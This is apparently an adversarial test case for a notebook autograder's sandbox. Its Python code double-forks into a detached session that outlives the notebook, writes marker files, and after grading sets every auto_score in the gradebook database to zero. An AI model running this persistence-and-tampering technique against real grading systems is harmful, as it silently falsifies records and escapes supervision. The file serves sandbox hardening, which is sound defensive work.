# Attack: start a process that outlives the notebook (double fork, new session) and,
# after grading is over, rewrites the grades in the gradebook and leaves a file.
# Inject: append
# Status: ok
# Passes: all
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2.0)
        for path in ["@MARKER@", "/tmp/nnl-adversarial-marker"]:
            try:
                with open(path, "w") as fh:
                    fh.write("still here")
            except OSError:
                pass
        try:
            import sqlite3
            db = sqlite3.connect("@GRADEBOOK@")
            db.execute("update grade set auto_score = 0")
            db.commit()
        except Exception:
            pass
        os._exit(0)
    os._exit(0)
print("started a detached process")
